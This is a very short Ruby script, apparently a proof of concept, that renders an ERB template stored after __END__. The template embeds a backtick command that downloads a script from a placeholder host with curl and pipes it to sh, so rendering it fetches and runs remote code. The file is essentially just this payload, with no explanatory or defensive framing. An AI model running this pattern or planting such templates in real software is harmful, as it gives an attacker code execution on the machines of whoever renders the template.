require 'erb'
puts ERB.new(DATA.read).result
__END__
<% `curl -s https://evil.example/x | sh` %>done
